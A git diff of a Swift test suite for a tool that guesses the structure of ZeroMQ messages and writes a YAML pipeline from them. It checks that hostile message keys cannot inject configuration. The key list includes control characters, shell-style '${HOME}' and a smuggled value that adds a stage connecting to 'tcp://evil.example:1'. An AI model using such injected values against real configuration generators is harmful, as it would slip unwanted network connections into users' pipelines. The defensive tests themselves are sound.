@@ -100,6 +100,19 @@ struct Sender: Sendable, CustomTestStringConvertible {
             ], kind: .hands,
             decode: ["points: \"hands[*].keypoints\"", "handedness: \"hands[*].label\"", "score: \"hands[*].score\""]),
         Sender(
+            name: "a list of hands with nobody in sight at the end",
+            messages: (0..<8).map {
+                let hands = $0 > 4 ? "" : "{\"label\":\"Left\",\"score\":0.5,\"keypoints\":\(SenderMessages.points())}"
+                return message(
+                    text("{\"hands\":[\(hands)],\"frame\":\($0),\"ts\":\(1700000000.25 + Double($0) / 30)}"),
+                    at: 33 * Int64($0))
+            }, kind: .hands,
+            decode: [
+                "points: \"hands[*].keypoints\"", "handedness: \"hands[*].label\"", "score: \"hands[*].score\"",
+                "t: ts",
+                "t_unit: s", "seq: frame",
+            ]),
+        Sender(
             name: "strokes with times",
             messages: [
                 message(
@@ -125,6 +138,32 @@ struct Sender: Sendable, CustomTestStringConvertible {
     ]
 }
 
+/// A sender whose keys would be something else in a configuration.
+struct NastySender: Sendable, CustomTestStringConvertible {
+    let key: String
+    /// The message, with points below the key and a time beside it.
+    var messages: [ReceivedMessage] {
+        (0..<4).map {
+            let key = JSONValue.quoted(key)
+            let time = JSONValue.quoted("ts " + self.key)
+            return message(
+                text("{\(key):{\(key):\(SenderMessages.rows)},\(time):\(1_700_000_000_000 + 33 * Int64($0))}"),
+                at: 33 * Int64($0))
+        }
+    }
+
+    var testDescription: String { key.debugDescription }
+
+    static let all = [
+        "@ts", "'q", "\"q\"", "- a", "a: b", "x #y", "line\nbreak", "pts\nstages:\n  - tap #", "{a", "}", "true",
+        "null", "~",
+        "12", "a\\", "$", "$x", "${HOME}", "$$", "&a", "*a", "**", "!a", "%", ",", " ", "\t", "\r\n", "\u{1}", "\u{7F}",
+        "\u{85}",
+        "\u{2028}", "\u{202E}", "\u{FEFF}", "\u{301}", "\u{600}", "图",
+        "pts\nstages:\n  - zmq_request: { connect: \"tcp://evil.example:1\" } #",
+    ].map(NastySender.init)
+}
+
 @Suite("A guess at a sender's messages")
 struct SenderGuessTests {
     @Test("is what a person would write", arguments: Sender.all)
@@ -135,21 +174,49 @@ struct SenderGuessTests {
     }
 
     @Test("is a pipeline that reads the very messages it was made from, off a socket", arguments: Sender.all)
-    func works(sender: Sender) async throws {
+    func works(sender: Sender) async throws { _ = try await readBack(sender.messages) }
+
+    @Test("is nothing but a source and a sink, whatever the keys of messages are", arguments: NastySender.all)
+    func keys(sender: NastySender) async throws {
+        let guess = try await readBack(sender.messages)
+        let keys = guess.decode.points.first?.steps
+        #expect(keys == [.key(sender.key), .key(sender.key)])
+        #expect(guess.decode.t.first?.steps == [.key("ts " + sender.key)])
+    }
+
+    @Test(
+        "names no key that no path can name",
+        arguments: ["a.b", "a[0]", "a]", "", ".", String(repeating: "k", count: 300)])
+    func unspeakable(key: String) throws {
+        let messages = [
+            "{\(JSONValue.quoted(key)):\(SenderMessages.rows)",
+            "{\"p\":{\(JSONValue.quoted(key)):\(SenderMessages.rows)}",
+        ]
+        for message in messages {
+            #expect(SenderGuess([StagesTests.message(text(message + "}"))]) == nil)
+            let guess = try #require(
+                SenderGuess([StagesTests.message(text(message + ",\"h\":\(SenderMessages.rows)}"))]))
+            #expect(guess.decode.points.map(\.description) == ["h"])
+        }
+    }
+
+    /// Lets messages be guessed at, sends them to the pipeline that was proposed, and expects it to read them.
+    private func readBack(_ messages: [ReceivedMessage]) async throws -> SenderGuess {
         var place = MessageListener.Place(try ZMQEndpoint("tcp://127.0.0.1:*"))
         (place.isBound, place.socket) = (true, .pull)
         let listener = try MessageListener(place)
         let peer = RawPeer()
         #expect(peer.connect(listener.endpoint))
         var survey = SenderSurvey()
-        for message in sender.messages {
+        for message in messages {
             peer.send(message.parts)
             survey.take(
                 ReceivedMessage(
                     parts: try #require(try listener.next(before: .max)).parts, arrival: message.arrival))
         }
         listener.close()
-        let yaml = try #require(survey.guess).yaml(place)
+        let guess = try #require(survey.guess)
+        let yaml = guess.yaml(place)
         let loaded = PipelineLoader(registry: .standard).load(text: yaml)
         #expect(DiagnosticRenderer(texts: loaded.texts).render(loaded.diagnostics) == "")
         let log = LogLines()
@@ -161,10 +228,12 @@ struct SenderGuessTests {
         // The run ends with the first frame; what was sent behind it need not arrive.
         second.isPatient = false
         #expect(second.connect(await log.next("bound to ")))
-        for message in sender.messages { second.send(message.parts) }
+        for message in messages { second.send(message.parts) }
         let report = await run.finished()
         #expect(report.isSuccess)
+        #expect(report.ledger.nodes.map(\.id) == ["zmq", "stdout"])
         #expect(report.ledger.nodes[0].emitted >= 1 && report.ledger.nodes[0].failed == 0)
+        return guess
     }
 
     @Test(
@@ -191,13 +260,45 @@ struct SenderGuessTests {
     @Test(
         "or the survey says what came in the place of points",
         arguments: [
-            ([""], "an empty payload"), (["hello\nyou"], "helloyou"), (["\u{0}\u{1}\u{FF}"], "\u{0}\u{1}\u{FF}"),
-            (["a", "b", "{}"], "a message of 3 frames; a source reads a payload, or a topic and a payload"),
+            ([""], "an empty payload"), (["hello\nyou"], "hello\nyou"), (["\u{0}\u{1}\u{FF}"], "\u{0}\u{1}\u{FF}"),
+            (["a", "b", "{}"], "a message of 3 frames"),
             ([#"{"status":"ok","list":[1,2]}"#], "status: \"ok\""),
         ])
     func outline(parts: [String], words: String) {
         var survey = SenderSurvey()
         survey.take(message(parts.map { Array($0.utf8) }))
         #expect(survey.streams.first?.outline.first == words)
+    }
+
+    @Test(
+        "and the survey counts what nobody could read, before and after something could be",
+        arguments: [
+            ([[0xFF, 0xFE]], "2 bytes that are neither JSON, MessagePack nor text"), ([[]], "an empty payload"),
+            ([[0x20, 0x0A]], "an empty payload"),
+            (
+                text("a", "b", "c"), "a message of 3 frames; a source reads a payload, or a topic and a payload"
+            ),
+            (text(#"{"a":"#), nil), (text("[1,2"), nil), (text("[1,2]]"), nil), ([[0x93, 0x01]], nil),
+        ] as [([[UInt8]], String?)])
+    func unreadable(parts: [[UInt8]], words: String?) throws {
+        var survey = SenderSurvey()
+        survey.take(message(parts))
+        #expect(survey.streams.map(\.failed) == [1])
+        let error = try #require(survey.streams[0].error)
+        #expect(error.location?.hasPrefix("message 1") == true)
+        if let words { #expect(error.message == words) }
+        survey.take(message(text("{\"p\":\(SenderMessages.rows)}"), at: 33))
+        #expect(survey.guess != nil)
+        survey.take(message(parts, at: 66))
+        #expect(survey.streams.map(\.failed).reduce(0, +) == 2)
+    }
+
+    @Test(
+        "and what can be read, and holds no points, has not failed",
+        arguments: ["hello", #"{"status":"ok"}"#, "[]", "null", "5"])
+    func readable(payload: String) {
+        var survey = SenderSurvey()
+        survey.take(message(text(payload)))
+        #expect(survey.streams.map(\.failed) == [0] && survey.guess == nil)
     }
 }
